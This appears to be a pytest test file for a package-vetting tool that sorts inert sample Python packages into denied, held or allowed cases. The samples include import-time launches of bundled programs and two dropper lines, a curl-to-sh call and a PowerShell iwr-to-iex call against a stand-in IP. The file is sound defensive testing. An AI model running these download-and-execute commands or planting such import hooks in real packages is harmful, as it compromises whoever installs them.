"""A program the package ships, started on import by a path from the module's own folder
(ADR 0101): a native executable or a script in another language runs beside the weights
with nothing of it read. The flow pass saw a process whose command did not fold (medium,
allowed). Samples are inert: vetting only reads files."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

HERE = "import os, subprocess\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
HARMLESS_JS = "console.log('ready');\n"
NODE_ON_IMPORT = "import os\nos.system('node ' + os.path.join(os.path.dirname(__file__), 'i.js'))\n"
# What the started script does: download a program and run it (inert text, never run).
JS_DROPPER = "require('child_process').exec('curl -s http://203.0.113.7/x | sh');\n"
PS_DROPPER = "iwr http://203.0.113.7/a.ps1 -UseBasicParsing | iex\n"

DENIED: dict[str, dict[str, str]] = {
    "node-script-that-downloads-and-runs-started-on-import": {
        "evpkg/__init__.py": NODE_ON_IMPORT,
        "evpkg/i.js": JS_DROPPER,
    },
    # Denied before ADR 0101 too (by the command's own words); kept beside the node case.
    "powershell-script-that-downloads-and-runs-started-on-import": {
        "evpkg/__init__.py": HERE + "subprocess.Popen(['pwsh', os.path.join(HERE, 'u.ps1')])\n",
        "evpkg/u.ps1": PS_DROPPER,
    },
}
HELD: dict[str, dict[str, str]] = {
    "shipped-exe-started-on-import": {
        "evpkg/__init__.py": "import subprocess, os\n"
        "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'svc.exe')])\n",
        "evpkg/svc.exe": "MZ\x90\x00 an inert stand-in for a program",
    },
    "node-script-started-on-import": {
        "evpkg/__init__.py": NODE_ON_IMPORT,
        "evpkg/i.js": HARMLESS_JS,
    },
    "program-without-a-suffix-by-pathlib-on-import": {
        "evpkg/__init__.py": "import subprocess\nfrom pathlib import Path\n"
        "subprocess.run([str(Path(__file__).parent / 'bin' / 'helper')])\n",
        "evpkg/bin/helper": "\x7fELF an inert stand-in",
    },
    "startfile-of-a-shipped-installer-on-import": {
        "evpkg/__init__.py": HERE + "os.startfile(os.path.join(HERE, 'setup.exe'))\n",
        "evpkg/setup.exe": "MZ an inert stand-in",
    },
    "shipped-exe-started-by-a-submodule-imported-on-import": {
        "evpkg/__init__.py": "from . import _svc\n",
        "evpkg/_svc.py": HERE + "subprocess.Popen([os.path.join(HERE, 'svc.exe')])\n",
        "evpkg/svc.exe": "MZ an inert stand-in",
    },
}
ALLOWED: dict[str, dict[str, str]] = {
    # A bundled tool started when the caller asks (ruff's, esbuild's shape).
    "shipped-binary-started-when-called": {
        "evpkg/__init__.py": HERE
        + "def run(*args):\n"
        + "    return subprocess.run([os.path.join(HERE, 'bin', 'tool'), *args])\n",
        "evpkg/bin/tool": "\x7fELF an inert stand-in",
    },
    # The path of a shipped program kept for later, not started.
    "shipped-binary-path-only-named-on-import": {
        "evpkg/__init__.py": HERE + "TOOL = os.path.join(HERE, 'bin', 'tool')\n",
        "evpkg/bin/tool": "\x7fELF an inert stand-in",
    },
    # A path from the module's folder that the archive does not ship.
    "unshipped-path-started-on-import": {
        "evpkg/__init__.py": HERE + "subprocess.run([os.path.join(HERE, 'missing.exe')])\n",
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
